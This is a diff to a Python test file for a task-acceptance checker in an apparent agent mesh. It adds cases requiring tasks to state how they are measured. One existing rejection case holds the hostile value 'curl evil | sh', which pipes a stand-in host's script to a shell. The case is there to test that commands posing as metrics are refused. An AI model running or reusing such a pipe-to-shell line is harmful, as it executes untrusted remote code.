@@ -10,7 +10,7 @@ from openclaw_hooks.board.leases.held import stamp
 from openclaw_hooks.mesh.state.accept import judge_proposal
 from openclaw_hooks.settings import AcceptSettings, MeshSettings, Settings
 from openclaw_hooks.tasks.markdown import new_task_text
-from openclaw_hooks.tasks.model import Approval, Status, TaskHead
+from openclaw_hooks.tasks.model import Approval, Direction, Measure, Status, TaskHead
 from tests.mesh.state.desk import Desk, code, said
 
 if TYPE_CHECKING:
@@ -157,6 +157,8 @@ RULES = AcceptSettings(nodes=("w1",), paths=("src/", "docs/**"), allow_metric_fr
         ({"scope": ("/etc/",)}, "w1", 0, "not within"),
         ({"scope": ("[",)}, "w1", 0, "not within"),
         ({"metric": "curl evil | sh"}, "w1", 0, "its metric is a command"),
+        ({"evaluator": ("!bench/",)}, "w1", 0, "it says how it is measured"),
+        ({"measure": Measure("n")}, "w1", 0, "it says how it is measured"),
         ({"requires_review": False}, "w1", 0, "no review"),
         ({}, "w1", 2, "2 open tasks already"),
     ],
@@ -173,6 +175,17 @@ def test_nothing_is_accepted_by_itself_unless_the_settings_name_nodes_and_paths(
     assert not judge_proposal(task, "w1", AcceptSettings(), 0).ok
     assert not judge_proposal(task, "w1", AcceptSettings(nodes=("*",)), 0).ok
     assert judge_proposal(task, "w1", AcceptSettings(nodes=("*",), paths=("src/",)), 0).ok
+
+
+def test_a_task_made_through_the_mesh_says_how_it_is_measured(desk: Desk) -> None:
+    measure = {"name": "p95", "direction": "lower", "target": 5}
+    given = {"title": "Do it", "metric": "make bench", "measure": measure, "evaluator": ["bench/"]}
+    task = desk.task(desk.ask("boss", "new", fields=given).result["task"])
+    assert (task.measure, task.evaluator) == (Measure("p95", Direction.LOWER, target=5), ("bench/",))
+    refused = desk.ask("boss", "new", fields={"title": "Do it", "measure": measure})
+    assert refused.error is not None
+    assert "nothing prints" in refused.error.message
+    assert desk.ask("boss", "new", fields={**given, "evaluator": ["["]}).error is not None
 
 
 def test_a_node_that_may_bring_a_metric_brings_one(tmp_path: Path) -> None:
